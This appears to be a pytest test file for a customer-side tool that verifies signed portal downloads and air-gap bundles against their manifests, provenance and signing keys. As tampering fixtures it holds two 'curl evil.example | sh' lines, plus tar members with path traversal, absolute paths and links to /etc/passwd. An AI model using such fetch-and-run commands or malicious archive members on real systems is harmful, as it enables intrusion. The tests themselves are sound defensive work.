"""The customer's verify command on a downloaded portal version: a folder or an air-gap bundle .tar."""

from __future__ import annotations

import ast
import base64
import hashlib
import io
import json
import re
import shutil
import sys
import tarfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Literal

import pytest

from contracts.manifest import ArtifactKind, Manifest, ManifestArtifact
from delivery.manifest_signing import PUBLIC_KEY_NAME, SIGNATURE_NAME, ManifestSigner
from delivery.portal import MANIFEST_NAME, manifest_json
from portal_verify.__main__ import main
from tests.conftest import run_captured, run_module
from tests.delivery.test_airgap import (
    ATTACKER,
    CREATED_AT,
    EVIL_GATEWAY,
    OTHER_CFG_ID,
    TOP,
    BundleInputs,
    Tamper,
    added,
    flipped,
    member,
    re_signed_by,
    replaced,
    rewritten,
    with_gateway_image,
)
from tests.delivery.test_airgap import CFG_ID as BUNDLE_CFG_ID

PROJECT_ROOT = Path(__file__).resolve().parents[2]
VERIFY_SCRIPT = PROJECT_ROOT / "portal_verify" / "__main__.py"
CFG_ID = "5f0c7a52-8d1e-4c3b-9a6f-2e1d0b9c8a71"
FOLDER_CREATED_AT = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
# How a bundle may come: a plain tar, or compressed by whoever copied it.
TarMode = Literal["w", "w:gz"]
FILES = {
    "edp.tar.gz": b"the edp archive " * 4096,
    "stack.cfn.yaml": b"Resources: {}\n",
    "seed.iso": b"\x00iso image\x00" * 100,
}
PROVENANCE_NAME = "provenance.intoto.jsonl"
IN_TOTO_TYPE = b"application/vnd.in-toto+json"
# The per-file lines of the output: "<status>  <name> (<detail>)", the status padded.
STATUS_LINE = re.compile(r"^(OK|MISMATCH|MISSING|UNLISTED|unsigned|not downloaded) +(\S+)")


@dataclass
class Version:
    folder: Path
    signer: ManifestSigner

    def manifest(self) -> dict[str, object]:
        loaded: dict[str, object] = json.loads((self.folder / MANIFEST_NAME).read_bytes())
        return loaded


def kind_of(name: str) -> ArtifactKind:
    if name.startswith("edp"):
        return "edp"
    if name.endswith(".yaml"):
        return "cfn"
    if name.endswith(".intoto.jsonl"):
        return "provenance"
    return "iso"


def sign_version(folder: Path, signer: ManifestSigner, files: Mapping[str, bytes]) -> None:
    """What the portal stores for a version (manifest, signature, public key), and the files beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    manifest = Manifest(
        cfg_id=CFG_ID,
        version=3,
        created_at=FOLDER_CREATED_AT,
        deployment_target="onprem",
        artifacts=[
            ManifestArtifact(
                kind=kind_of(name),
                name=name,
                key=f"portal/{CFG_ID}/v3/{name}",
                size=len(content),
                sha256=hashlib.sha256(content).hexdigest(),
            )
            for name, content in files.items()
        ],
    )
    data = manifest_json(manifest)
    (folder / MANIFEST_NAME).write_bytes(data)
    (folder / SIGNATURE_NAME).write_bytes(signer.sign(data))
    (folder / PUBLIC_KEY_NAME).write_bytes(signer.public_pem())
    for name, content in files.items():
        (folder / name).write_bytes(content)


@pytest.fixture
def version(tmp_path: Path) -> Version:
    signer = ManifestSigner.generate()
    folder = tmp_path / "v3"
    sign_version(folder, signer, FILES)
    return Version(folder, signer)


@pytest.fixture
def published_key(tmp_path: Path, version: Version) -> Path:
    """The key as the customer downloads it from the portal's signing keys URL."""
    path = tmp_path / "downloads" / f"{version.signer.key_id}.pem"
    path.parent.mkdir()
    path.write_bytes(version.signer.public_pem())
    return path


def status_lines(output: str) -> dict[str, str]:
    """The per-file lines of the output: file path -> status."""
    lines: dict[str, str] = {}
    for line in output.splitlines():
        found = STATUS_LINE.match(line)
        if found:
            lines[found.group(2)] = found.group(1)
    return lines


def key_list(
    path: Path, *signers: ManifestSigner, revoked_at: datetime | None = None, reason: str | None = None
) -> Path:
    """The portal's GET /signing-keys answer as the customer saves it: ``revoked_at`` applies to the
    first signer."""
    keys = [
        {
            "key_id": signer.key_id,
            "fingerprint": signer.fingerprint,
            "url": f"https://portal.example/signing-keys/{signer.key_id}.pem",
            "first_used_at": "2025-01-01T00:00:00Z",
            "revoked_at": None if revoked_at is None or index else revoked_at.isoformat(),
            "revocation_reason": None if index else reason,
            "public_key": signer.public_pem().decode(),
        }
        for index, signer in enumerate(signers)
    ]
    path.write_text(json.dumps({"current": signers[-1].key_id if signers else None, "keys": keys}))
    return path


def test_a_complete_good_folder_verifies(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main([str(version.folder), "--key", str(published_key)])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert status_lines(out) == dict.fromkeys(FILES, "OK")
    assert version.signer.key_id in out and version.signer.fingerprint in out
    assert out.splitlines()[-1] == f"verified: {len(FILES)} file(s) match the signed manifest"


def test_the_fingerprint_the_portal_shows_is_an_anchor(
    version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main([str(version.folder), "--fingerprint", version.signer.fingerprint])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert status_lines(out) == dict.fromkeys(FILES, "OK")


def test_without_a_trust_anchor_it_refuses_and_says_how_to_get_one(
    version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    # The key beside the files proves only that they agree with each other: it is no anchor.
    code = main([str(version.folder)])

    out, err = capsys.readouterr()
    assert code == 2
    assert "--fingerprint" in err and "--key" in err and "signing-keys" in err
    # Which key to fetch from the portal.
    assert f"signing-keys/{version.signer.key_id}.pem" in err
    assert status_lines(out) == {}


def test_a_fingerprint_of_another_key_is_a_bad_key(
    version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    code = main([str(version.folder), "--fingerprint", ManifestSigner.generate().fingerprint])

    out, err = capsys.readouterr()
    assert code == 1
    assert "BAD KEY" in err and version.signer.fingerprint in err
    assert status_lines(out) == {}


def test_a_malformed_fingerprint_is_a_usage_error(
    version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main([str(version.folder), "--fingerprint", "SHA256:short"])

    assert exited.value.code == 2
    assert "not a key fingerprint" in capsys.readouterr().err


def test_a_key_list_is_an_anchor_when_it_names_the_key(
    tmp_path: Path, version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    keys = key_list(tmp_path / "keys.json", ManifestSigner.generate(), version.signer)

    code = main([str(version.folder), "--keys", str(keys)])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert "key: not revoked" in out


@pytest.mark.parametrize("with_fingerprint", [False, True], ids=["keys alone", "keys and fingerprint"])
def test_a_key_list_without_the_signing_key_fails(
    tmp_path: Path, version: Version, with_fingerprint: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    keys = key_list(tmp_path / "keys.json", ManifestSigner.generate())
    anchor = ["--fingerprint", version.signer.fingerprint] if with_fingerprint else []

    code = main([str(version.folder), "--keys", str(keys), *anchor])

    out, err = capsys.readouterr()
    assert code == 1
    assert version.signer.key_id in err and "key list" in err
    assert status_lines(out) == {}


@pytest.mark.parametrize("arg", ["{", '{"keys": "none"}', '{"current": null}'])
def test_a_file_that_is_no_key_list_fails(
    tmp_path: Path, version: Version, arg: str, capsys: pytest.CaptureFixture[str]
) -> None:
    keys = tmp_path / "keys.json"
    keys.write_text(arg)

    assert main([str(version.folder), "--keys", str(keys)]) == 1
    assert "is not the portal's key list" in capsys.readouterr().err


def test_a_changed_file_is_a_mismatch(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = bytearray(FILES["edp.tar.gz"])
    content[100] ^= 1  # the same size, another sha256
    (version.folder / "edp.tar.gz").write_bytes(bytes(content))
    (version.folder / "seed.iso").write_bytes(FILES["seed.iso"][:-1])  # truncated

    code = main([str(version.folder), "--key", str(published_key)])

    out, _ = capsys.readouterr()
    assert code == 1
    assert status_lines(out) == {"edp.tar.gz": "MISMATCH", "stack.cfn.yaml": "OK", "seed.iso": "MISMATCH"}
    assert "FAILED" in out


def test_a_missing_file_fails_unless_partial_lets_a_download_folder_lack_it(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / "seed.iso").unlink()

    default = main([str(version.folder), "--key", str(published_key)])
    default_out, _ = capsys.readouterr()
    partial = main([str(version.folder), "--key", str(published_key), "--partial"])
    partial_out, _ = capsys.readouterr()
    # --complete, the flag of earlier releases, is still accepted: missing files fail anyway.
    complete = main([str(version.folder), "--key", str(published_key), "--complete"])
    complete_out, _ = capsys.readouterr()

    assert default == 1
    assert status_lines(default_out) == {"edp.tar.gz": "OK", "stack.cfn.yaml": "OK", "seed.iso": "MISSING"}
    assert "FAILED" in default_out and "seed.iso (MISSING)" in default_out
    assert partial == 0
    assert status_lines(partial_out)["seed.iso"] == "not downloaded"
    assert "1 not downloaded" in partial_out
    assert complete == 1
    assert status_lines(complete_out)["seed.iso"] == "MISSING"


def test_a_file_the_manifest_does_not_list_fails(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / "install.sh").write_text("curl evil.example | sh\n")
    (version.folder / "more").mkdir()
    (version.folder / "more" / "notes.txt").write_text("hello\n")

    code = main([str(version.folder), "--key", str(published_key), "--partial"])

    out, _ = capsys.readouterr()
    assert code == 1
    assert status_lines(out) == {
        **dict.fromkeys(FILES, "OK"),
        "install.sh": "UNLISTED",
        "more/notes.txt": "UNLISTED",
    }


def test_the_portal_page_in_a_download_folder_is_reported_unsigned(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # The page is re-rendered when a version is withdrawn, so the version's manifest cannot list it.
    (version.folder / "index.html").write_text("<!doctype html><title>Version 3</title>")

    code = main([str(version.folder), "--key", str(published_key)])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert status_lines(out)["index.html"] == "unsigned"


@pytest.mark.parametrize("target", ["seed.iso", "/etc/passwd"])
def test_a_link_in_a_folder_fails(
    version: Version, published_key: Path, target: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / "seed-link.iso").symlink_to(target)

    code = main([str(version.folder), "--key", str(published_key)])

    _, err = capsys.readouterr()
    assert code == 1
    assert "seed-link.iso is a link" in err


def test_a_listed_file_replaced_by_a_link_fails(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # A link to a good copy elsewhere would otherwise pass, then be swapped after the check.
    good = version.folder.parent / "elsewhere.iso"
    (version.folder / "seed.iso").rename(good)
    (version.folder / "seed.iso").symlink_to(good)

    assert main([str(version.folder), "--key", str(published_key)]) == 1
    assert "seed.iso is a link" in capsys.readouterr().err


def test_a_manifest_changed_to_match_changed_files_fails_its_signature(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    forged = b"a different stack"
    (version.folder / "stack.cfn.yaml").write_bytes(forged)
    manifest = version.manifest()
    for artifact in manifest["artifacts"]:  # type: ignore[attr-defined]
        if artifact["name"] == "stack.cfn.yaml":
            artifact.update(size=len(forged), sha256=hashlib.sha256(forged).hexdigest())
    (version.folder / MANIFEST_NAME).write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")

    code = main([str(version.folder), "--key", str(published_key)])

    out, err = capsys.readouterr()
    assert code == 1
    assert "BAD SIGNATURE" in err
    assert status_lines(out) == {}  # no file is vouched for by a manifest that is not signed


@pytest.mark.parametrize(
    "signature",
    [pytest.param(b"\x00" * 64, id="wrong bytes"), pytest.param(b"short", id="truncated")],
)
def test_a_bad_signature_fails(
    version: Version, published_key: Path, signature: bytes, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / SIGNATURE_NAME).write_bytes(signature)

    code = main([str(version.folder), "--key", str(published_key)])

    _, err = capsys.readouterr()
    assert code == 1
    assert "BAD SIGNATURE" in err


def test_a_missing_signature_fails(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / SIGNATURE_NAME).unlink()

    code = main([str(version.folder), "--key", str(published_key)])

    _, err = capsys.readouterr()
    assert code == 1
    assert SIGNATURE_NAME in err


def test_a_folder_re_signed_by_someone_else_fails_against_every_anchor(
    tmp_path: Path, version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Someone swaps files, manifest, signature and the shipped signing-key.pem for their own.
    forger = ManifestSigner.generate()
    sign_version(version.folder, forger, {**FILES, "stack.cfn.yaml": b"Resources: {Evil: {}}\n"})
    keys = key_list(tmp_path / "keys.json", version.signer)

    by_key = main([str(version.folder), "--key", str(published_key)])
    _, by_key_err = capsys.readouterr()
    by_fingerprint = main([str(version.folder), "--fingerprint", version.signer.fingerprint])
    _, by_fingerprint_err = capsys.readouterr()
    by_keys = main([str(version.folder), "--keys", str(keys)])
    _, by_keys_err = capsys.readouterr()

    assert by_key == 1 and "BAD SIGNATURE" in by_key_err
    assert (
        by_fingerprint == 1 and "BAD KEY" in by_fingerprint_err and forger.fingerprint in by_fingerprint_err
    )
    assert by_keys == 1 and forger.key_id in by_keys_err and "key list" in by_keys_err


def test_a_key_file_that_is_no_public_key_fails(
    tmp_path: Path, version: Version, capsys: pytest.CaptureFixture[str]
) -> None:
    not_a_key = tmp_path / "key.pem"
    not_a_key.write_text("not a key\n")

    code = main([str(version.folder), "--key", str(not_a_key)])

    _, err = capsys.readouterr()
    assert code == 1
    assert "public key" in err


def test_key_and_fingerprint_together_are_a_usage_error(
    version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main([str(version.folder), "--key", str(published_key), "--fingerprint", version.signer.fingerprint])

    assert exited.value.code == 2
    assert "not both" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--cfg-id", CFG_ID, "--version", "3"], None),
        (
            ["--cfg-id", "11111111-2222-4333-8444-555555555555"],
            f"WRONG ORDER: {MANIFEST_NAME} is of order {CFG_ID}",
        ),
        (["--version", "4"], f"WRONG VERSION: {MANIFEST_NAME} is of portal version 3, not 4"),
    ],
)
def test_the_order_and_version_checks(
    version: Version,
    published_key: Path,
    args: list[str],
    says: str | None,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # A good signature on another order's manifest proves nothing about this order's delivery.
    code = main([str(version.folder), "--key", str(published_key), *args])

    out, err = capsys.readouterr()
    if says is None:
        assert code == 0, err
    else:
        assert code == 1 and says in err
        assert status_lines(out) == {}


# The DSSE envelope of a provenance, as the portal signs it.


def dsse_envelope(
    signer: ManifestSigner, subjects: Mapping[str, str], cfg_id: str = CFG_ID, version: int = 3
) -> bytes:
    """An in-toto statement of order ``cfg_id`` version ``version`` naming ``subjects``
    (name -> sha256), in a DSSE envelope signed by ``signer`` over DSSE's pre-authentication
    encoding."""
    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": name, "digest": {"sha256": sha256}} for name, sha256 in subjects.items()],
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {
            "buildDefinition": {
                "buildType": "https://example.com/portal-delivery/v1",
                "externalParameters": {"cfg_id": cfg_id, "portalVersion": version},
            }
        },
    }
    payload = json.dumps(statement, sort_keys=True).encode()
    pae = b"DSSEv1 %d %s %d %s" % (len(IN_TOTO_TYPE), IN_TOTO_TYPE, len(payload), payload)
    envelope = {
        "payload": base64.b64encode(payload).decode(),
        "payloadType": IN_TOTO_TYPE.decode(),
        "signatures": [{"keyid": signer.key_id, "sig": base64.b64encode(signer.sign(pae)).decode()}],
    }
    return json.dumps(envelope).encode() + b"\n"


def digests(files: Mapping[str, bytes]) -> dict[str, str]:
    return {name: hashlib.sha256(content).hexdigest() for name, content in files.items()}


@dataclass
class ProvenanceCase:
    """How the provenance of a good folder is made: the subjects it names, the key that signs it."""

    subjects: Callable[[dict[str, str]], dict[str, str]] = field(default=lambda subjects: subjects)
    other_key: bool = False
    cfg_id: str = CFG_ID
    version: int = 3
    says: str | None = None


@pytest.mark.parametrize(
    "case",
    [
        pytest.param(ProvenanceCase(), id="good"),
        pytest.param(
            ProvenanceCase(subjects=lambda s: {**s, "seed.iso": "0" * 64}, says="seed.iso"),
            id="a subject's sha256 changed",
        ),
        pytest.param(
            ProvenanceCase(
                subjects=lambda s: {n: d for n, d in s.items() if n != "stack.cfn.yaml"},
                says="stack.cfn.yaml",
            ),
            id="a subject left out",
        ),
        pytest.param(
            ProvenanceCase(subjects=lambda s: {**s, "other.iso": "1" * 64}, says="other.iso"),
            id="a subject more",
        ),
        pytest.param(
            ProvenanceCase(other_key=True, says=f"BAD SIGNATURE: {PROVENANCE_NAME} is not signed by key"),
            id="signed by another key",
        ),
        # A good provenance of another order or version, swapped in with its subjects' files.
        pytest.param(
            ProvenanceCase(cfg_id=OTHER_CFG_ID, says=f"is the provenance of order {OTHER_CFG_ID} version 3"),
            id="of another order",
        ),
        pytest.param(
            ProvenanceCase(version=2, says=f"is the provenance of order {CFG_ID} version 2"),
            id="of another version",
        ),
    ],
)
def test_the_provenance_must_be_signed_by_the_key_and_name_the_artifacts(
    tmp_path: Path, case: ProvenanceCase, capsys: pytest.CaptureFixture[str]
) -> None:
    signer = ManifestSigner.generate()
    envelope_signer = ManifestSigner.generate() if case.other_key else signer
    # Each bad envelope is properly signed: only what it says, or who signed it, is wrong.
    envelope = dsse_envelope(envelope_signer, case.subjects(digests(FILES)), case.cfg_id, case.version)
    folder = tmp_path / "v3"
    sign_version(folder, signer, {**FILES, PROVENANCE_NAME: envelope})

    code = main([str(folder), "--fingerprint", signer.fingerprint])

    out, err = capsys.readouterr()
    # The envelope itself is an artifact of the manifest, checked like the others.
    assert status_lines(out)[PROVENANCE_NAME] == "OK"
    if case.says is None:
        assert code == 0, err
        assert f"provenance: OK ({len(FILES)} artifacts, signed by key {signer.key_id})" in out
    else:
        assert code == 1
        assert PROVENANCE_NAME in err and case.says in err


def test_a_provenance_envelope_of_another_payload_type_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    signer = ManifestSigner.generate()
    envelope = json.loads(dsse_envelope(signer, digests(FILES)))
    envelope["payloadType"] = "text/plain"
    folder = tmp_path / "v3"
    sign_version(folder, signer, {**FILES, PROVENANCE_NAME: json.dumps(envelope).encode()})

    assert main([str(folder), "--fingerprint", signer.fingerprint]) == 1
    assert "not an in-toto statement" in capsys.readouterr().err


def test_a_provenance_not_downloaded_is_reported_with_partial(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    signer = ManifestSigner.generate()
    folder = tmp_path / "v3"
    sign_version(folder, signer, {**FILES, PROVENANCE_NAME: dsse_envelope(signer, digests(FILES))})
    (folder / PROVENANCE_NAME).unlink()

    code = main([str(folder), "--fingerprint", signer.fingerprint, "--partial"])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert f"provenance: {PROVENANCE_NAME} not downloaded" in out


# An archive of a download folder, as tar or gz: read in place.


def bundle_of(folder: Path, archive: Path, mode: TarMode = "w") -> Path:
    with tarfile.open(archive, mode) as tar:
        tar.add(folder, arcname=f"bundle-{CFG_ID}-v3")
    return archive


@pytest.mark.parametrize("mode, suffix", [("w", ".tar"), ("w:gz", ".tar.gz")])
def test_a_bundle_archive_verifies_in_place(
    tmp_path: Path,
    version: Version,
    published_key: Path,
    mode: TarMode,
    suffix: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    archive = bundle_of(version.folder, tmp_path / f"bundle{suffix}", mode)
    shutil.rmtree(version.folder)  # nothing of the check reads from an extracted copy

    code = main([str(archive), "--key", str(published_key)])

    out, err = capsys.readouterr()
    assert code == 0, err
    assert status_lines(out) == dict.fromkeys(FILES, "OK")
    assert set(tmp_path.iterdir()) == {archive, published_key.parent}


def test_a_changed_file_in_a_bundle_is_a_mismatch_and_a_missing_one_fails_even_with_partial(
    tmp_path: Path, version: Version, published_key: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (version.folder / "stack.cfn.yaml").write_bytes(b"Resources: {Evil: {}}\n")
    (version.folder / "seed.iso").unlink()
    archive = bundle_of(version.folder, tmp_path / "bundle.tar")

    code = main([str(archive), "--key", str(published_key), "--partial"])

    out, _ = capsys.readouterr()
    # --partial is for a folder of downloads: an archive is whole, or it is not what was published.
    assert code == 1
    assert status_lines(out) == {"edp.tar.gz": "OK", "stack.cfn.yaml": "MISMATCH", "seed.iso": "MISSING"}


def tar_with(archive: Path, version: Version, extra: tarfile.TarInfo, content: bytes = b"") -> Path:
    """A bundle of the version with one more member."""
    with tarfile.open(archive, "w") as tar:
        tar.add(version.folder, arcname="bundle")
        tar.addfile(extra, io.BytesIO(content) if extra.isfile() else None)
    return archive


def _file(name: str, size: int = 4) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size = size
    return info


def _link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


@pytest.mark.parametrize(
    "member, reason",
    [
        pytest.param(_file("bundle/../../escaped"), "unsafe archive member name", id="parent"),
        pytest.param(_file("/etc/cron.d/evil"), "unsafe archive member name", id="absolute"),
        pytest.param(_file("other/manifest.json"), "top-level directory", id="second top-level directory"),
        pytest.param(_file("loose-file"), "top-level directory", id="file at the top"),
        pytest.param(_link("bundle/edp-link", "/etc/passwd", tarfile.SYMTYPE), "link", id="symlink"),
        pytest.param(_link("bundle/hard", "/etc/passwd", tarfile.LNKTYPE), "link", id="hard link"),
        pytest.param(_file("bundle/manifest.json"), "twice", id="second manifest"),
    ],
)
def test_an_unsafe_bundle_is_refused(
    tmp_path: Path,
    version: Version,
    published_key: Path,
    member: tarfile.TarInfo,
    reason: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    archive = tar_with(tmp_path / "bundle.tar", version, member, b"evil"[: member.size])

    code = main([str(archive), "--key", str(published_key)])

    out, err = capsys.readouterr()
    assert code == 1
    assert reason in err and repr(member.name) in err
    assert status_lines(out) == {}


def test_a_path_that_is_neither_folder_nor_archive_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    not_tar = tmp_path / "notes.txt"
    not_tar.write_text("hello")
    anchor = ["--fingerprint", ManifestSigner.generate().fingerprint]

    assert main([str(tmp_path / "absent"), *anchor]) == 1
    assert main([str(not_tar), *anchor]) == 1
    _, err = capsys.readouterr()
    assert "absent" in err and "notes.txt" in err


# A real air-gap bundle, as delivery.airgap writes it, and the folder a site extracts it to.

Form = Literal["tar", "folder"]
# The arguments a case adds to the README's verify command, given where to write a key list.
ExtraArgs = Callable[[Path, ManifestSigner], list[str]]


def no_args(where: Path, portal: ManifestSigner) -> list[str]:
    return []


def revoked(shift: timedelta) -> ExtraArgs:
    """A saved key list in which the portal's key was revoked at the bundle's created_at + ``shift``."""

    def args(where: Path, portal: ManifestSigner) -> list[str]:
        path = key_list(where / "keys.json", portal, revoked_at=CREATED_AT + shift, reason="key leaked")
        return ["--keys", str(path)]

    return args


def unchanged(entries: list[tuple[tarfile.TarInfo, bytes]]) -> list[tuple[tarfile.TarInfo, bytes]]:
    return entries


@dataclass(frozen=True)
class AirgapCase:
    """A bundle as it may reach a site: made by the portal (``version``/``cfg_id`` of the bundle),
    then changed by ``tamper``; verified with the README's command and ``args``."""

    tamper: Tamper = unchanged
    cfg_id: str = BUNDLE_CFG_ID
    version: int = 3
    args: ExtraArgs = no_args
    # What the output must say; nothing for a bundle that verifies.
    says: tuple[str, ...] = ()


AIRGAP_CASES = {
    "unchanged": AirgapCase(),
    "gateway image changed in stack/compose.yaml": AirgapCase(
        tamper=replaced("stack/compose.yaml", with_gateway_image), says=("MISMATCH", "stack/compose.yaml")
    ),
    "a file added": AirgapCase(
        tamper=added(member(f"{TOP}/stack/extra.sh"), b"#!/bin/sh\ncurl evil.example | sh\n"),
        says=("UNLISTED", "stack/extra.sh"),
    ),
    "README.txt changed": AirgapCase(
        tamper=replaced("README.txt", lambda d: d.replace(b"python3 portal_verify.py", b"sh ./extra.sh")),
        says=("MISMATCH", "README.txt"),
    ),
    "an artifact changed": AirgapCase(tamper=replaced("seed.iso", flipped), says=("MISMATCH", "seed.iso")),
    "re-signed by another key": AirgapCase(
        tamper=re_signed_by(ATTACKER), says=("BAD KEY", PUBLIC_KEY_NAME, ATTACKER.fingerprint)
    ),
    "a manifest of another order": AirgapCase(
        cfg_id=OTHER_CFG_ID, says=("WRONG ORDER", f"is of order {OTHER_CFG_ID}, not {BUNDLE_CFG_ID}")
    ),
    "a manifest of another version": AirgapCase(version=2, says=("WRONG VERSION", "portal version 2, not 3")),
    "key revoked before the manifest was created": AirgapCase(
        args=revoked(-timedelta(days=1)), says=("REVOKED KEY", "key leaked")
    ),
    "key revoked as the manifest was created": AirgapCase(args=revoked(timedelta(0)), says=("REVOKED KEY",)),
    # A key revoked later stays good for what it signed before.
    "key revoked after the manifest was created": AirgapCase(args=revoked(timedelta(days=1))),
}


def airgap_copy(tmp_path: Path, portal: ManifestSigner, case: AirgapCase, form: Form) -> Path:
    """The case's bundle, tar or extracted, at ``airgap-bundle-v3.tar`` or ``airgap-v3/``: the names
    the README's command expects, whichever version it really holds."""
    inputs = BundleInputs(signer=portal, cfg_id=case.cfg_id, version=case.version)
    made = inputs.bundle(tmp_path / "portal")
    tar = rewritten(made, tmp_path / "airgap-bundle-v3.tar", case.tamper)
    if form == "tar":
        return tar
    with tarfile.open(tar) as archive:
        archive.extractall(tmp_path / "site", filter="data")
    (folder,) = (tmp_path / "site").iterdir()
    return folder.rename(tmp_path / TOP)


def readme_verify_args(portal: ManifestSigner) -> list[str]:
    """The anchor and checks of the README's verify command (of the genuine bundle of order 3)."""
    return ["--fingerprint", portal.fingerprint, "--cfg-id", BUNDLE_CFG_ID, "--version", "3"]


@pytest.mark.parametrize("form", ["tar", "folder"])
@pytest.mark.parametrize("name", AIRGAP_CASES)
def test_an_airgap_bundle_and_its_folder_fail_verification_when_tampered(
    tmp_path: Path, name: str, form: Form, capsys: pytest.CaptureFixture[str]
) -> None:
    case = AIRGAP_CASES[name]
    (tmp_path / "portal").mkdir()
    portal = ManifestSigner.generate()
    path = airgap_copy(tmp_path, portal, case, form)

    code = main([str(path), *readme_verify_args(portal), *case.args(tmp_path, portal)])

    out, err = capsys.readouterr()
    if not case.says:
        assert code == 0, out + err
        assert "verified: " in out.splitlines()[-1]
        return
    assert code == 1, out
    for said in case.says:
        assert said in out + err, out + err


def test_an_airgap_bundle_has_every_file_checked(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "portal").mkdir()
    portal = ManifestSigner.generate()
    path = airgap_copy(tmp_path, portal, AirgapCase(), "tar")

    assert main([str(path), *readme_verify_args(portal)]) == 0

    inputs = BundleInputs(signer=portal)
    listed = [a.name for a in inputs.manifest.artifacts] + [
        f.path for f in inputs.inner_manifest.bundle_files
    ]
    assert status_lines(capsys.readouterr().out) == dict.fromkeys(listed, "OK")


def test_a_changed_image_in_an_airgap_bundle_fails_also_with_the_published_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "portal").mkdir()
    portal = ManifestSigner.generate()
    key = tmp_path / "portal.pem"
    key.write_bytes(portal.public_pem())
    path = airgap_copy(tmp_path, portal, AIRGAP_CASES["re-signed by another key"], "folder")
    assert EVIL_GATEWAY.encode() in (path / "stack" / "compose.yaml").read_bytes()

    # The forger's signing-key.pem is not used when the key comes from the portal.
    assert main([str(path), "--key", str(key)]) == 1
    assert "BAD SIGNATURE" in capsys.readouterr().err


def test_a_link_in_an_extracted_airgap_folder_fails(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "portal").mkdir()
    portal = ManifestSigner.generate()
    folder = airgap_copy(tmp_path, portal, AirgapCase(), "folder")
    (folder / "stack" / "override.yaml").symlink_to("/etc/passwd")

    assert main([str(folder), *readme_verify_args(portal)]) == 1
    assert "stack/override.yaml is a link" in capsys.readouterr().err


def test_python_dash_m_portal_verify_runs(version: Version, published_key: Path) -> None:
    run = run_module(["portal_verify", str(version.folder), "--key", str(published_key)], cwd=PROJECT_ROOT)

    assert run.returncode == 0, run.stderr
    assert status_lines(run.stdout) == dict.fromkeys(FILES, "OK")


# Run the file on its own, as a customer gets it, with every package of the project made unimportable
# (the venv has the project installed, so a stray import would otherwise still succeed).
ALONE = """
import runpy, sys
from importlib.abc import MetaPathFinder

class Blocked(MetaPathFinder):
    def find_spec(self, name, path=None, target=None):
        if name.split(".")[0] in BLOCKED:
            raise ImportError(f"{name} is not available to a customer")
        return None

BLOCKED = set(sys.argv[1].split(","))
sys.meta_path.insert(0, Blocked())
script = sys.argv[2]
sys.argv = [script, *sys.argv[3:]]
runpy.run_path(script, run_name="__main__")
"""


def test_the_file_alone_runs_without_the_project(tmp_path: Path, version: Version) -> None:
    alone = tmp_path / "customer" / "portal_verify.py"
    alone.parent.mkdir()
    shutil.copy(VERIFY_SCRIPT, alone)
    project_packages = sorted(path.parent.name for path in PROJECT_ROOT.glob("*/__init__.py"))
    command = [
        sys.executable,
        "-I",
        "-c",
        ALONE,
        ",".join(project_packages),
        str(alone),
        str(version.folder),
        "--fingerprint",
        version.signer.fingerprint,
    ]

    good = run_captured(command, cwd=alone.parent)
    (version.folder / "edp.tar.gz").write_bytes(b"changed")
    bad = run_captured(command, cwd=alone.parent)

    assert good.returncode == 0, good.stderr
    assert status_lines(good.stdout) == dict.fromkeys(FILES, "OK")
    assert bad.returncode == 1
    assert status_lines(bad.stdout)["edp.tar.gz"] == "MISMATCH"


# The oldest Python the file's docstring promises: an offline site runs what its OS ships.
OLDEST_PYTHON = (3, 9)


def test_the_files_syntax_is_that_of_the_oldest_python_it_supports() -> None:
    ast.parse(VERIFY_SCRIPT.read_text(), feature_version=OLDEST_PYTHON)


def oldest_python_with_cryptography() -> str | None:
    found = shutil.which("python{}.{}".format(*OLDEST_PYTHON))
    if found is None:
        return None
    probe = run_captured([found, "-I", "-c", "import cryptography"])
